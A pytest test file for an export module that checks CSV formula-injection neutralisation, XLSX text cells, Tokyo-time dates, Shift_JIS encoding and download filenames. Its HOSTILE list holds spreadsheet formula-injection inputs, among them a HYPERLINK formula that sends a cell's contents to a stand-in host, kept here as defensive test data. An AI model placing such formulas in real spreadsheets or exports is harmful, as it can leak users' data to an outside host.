"""The shared export writer (llp_gov/exports.py): formula neutralisation, XLSX text cells,
times in the legal zone, Shift_JIS mapping and download names."""

import csv
import datetime as dt
import io

import pytest
from openpyxl import load_workbook

from llp_gov import exports
from llp_gov.exports import Column, Sheet

HOSTILE = [
    '=HYPERLINK("http://x.example/?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "＝１＋１",
    "＋cmd",
    "－1",
    "＠SUM(A1)",
    "  =1+1",
    "\t=1+1",
    "\r\n=1+1",
    "\u3000=1+1",
    "\u200b=1+1",
]
HARMLESS = ["株式会社北九州", "a=b", "1-2", "", "한글 계약서", "-"]


@pytest.mark.parametrize("text", HOSTILE)
def test_csv_neutralises_every_formula_start(text):
    body = b"".join(exports.csv_stream([Column("t")], [(text,)])).decode("utf-8-sig")
    cell = next(csv.reader(io.StringIO(body.split("\r\n", 1)[1])))[0]
    assert cell == "'" + text


@pytest.mark.parametrize("text", HARMLESS)
def test_csv_leaves_harmless_text_alone(text):
    assert exports.neutralise(text) == text


def test_a_lone_minus_is_harmless_but_a_minus_formula_is_not():
    assert exports.neutralise("-") == "-"
    assert exports.neutralise("-A1") == "'-A1"


def test_xlsx_writes_hostile_text_as_text_without_a_visible_quote():
    rows = [(t, 1200, dt.date(2026, 4, 1)) for t in HOSTILE]
    columns = [Column("title"), Column("amount", "money"), Column("date", "date")]
    data = b"".join(exports.xlsx_stream([Sheet("s", columns, rows, totals=True)]))
    ws = load_workbook(io.BytesIO(data)).active
    values = list(ws.iter_rows(min_row=2, values_only=False))
    for text, row in zip(HOSTILE, values, strict=False):
        assert row[0].value == text
        assert row[0].data_type == "s"
        assert row[1].value == 1200 and row[1].number_format == "#,##0"
        assert row[2].is_date
    total = values[-1]
    assert total[1].value == 1200 * len(HOSTILE)
    assert ws.freeze_panes == "A2"


def test_datetimes_are_written_in_the_legal_time_zone():
    # 00:30 on 1 April in Japan is 15:30 UTC on 31 March: the Japanese date must be written.
    at = dt.datetime(2026, 3, 31, 15, 30, tzinfo=dt.UTC)
    body = b"".join(exports.csv_stream([Column("at", "datetime")], [(at,)], tz="Asia/Tokyo"))
    assert "2026-04-01 00:30:00" in body.decode("utf-8-sig")
    data = b"".join(
        exports.xlsx_stream([Sheet("s", [Column("at", "datetime")], [(at,)])], tz="Asia/Tokyo")
    )
    ws = load_workbook(io.BytesIO(data)).active
    assert ws.cell(2, 1).value == dt.datetime(2026, 4, 1, 0, 30)


def test_shift_jis_maps_dashes_and_names_what_it_cannot_encode():
    body = b"".join(exports.csv_stream(None, [("A\u2014B\u301cC\u2212D",)], encoding="cp932"))
    assert body.decode("cp932").strip() == "A\u2015B\uff5eC\uff0dD"
    assert exports.cp932_problems([("ok",), ("계약 \u2014",), ("x",)]) == [(2, "계약")]


def test_download_names_have_a_non_empty_ascii_fallback(app):
    with app.test_request_context():
        response = exports.download(b"x", "組合員一覧.csv", "text/csv")
        value = response.headers["Content-Disposition"]
    assert value.startswith("attachment; filename=\"download.csv\"; filename*=UTF-8''")
    assert exports.ascii_fallback("klic-2026.csv") == "klic-2026.csv"


def test_a_download_states_exactly_one_charset(app):
    with app.test_request_context():
        sjis = exports.csv_download(None, [("ア",)], "a.csv", encoding="cp932")
        utf8 = exports.csv_download(None, [("ア",)], "a.csv")
    assert sjis.headers["Content-Type"] == "text/csv; charset=shift_jis"
    assert utf8.headers["Content-Type"] == "text/csv; charset=utf-8"
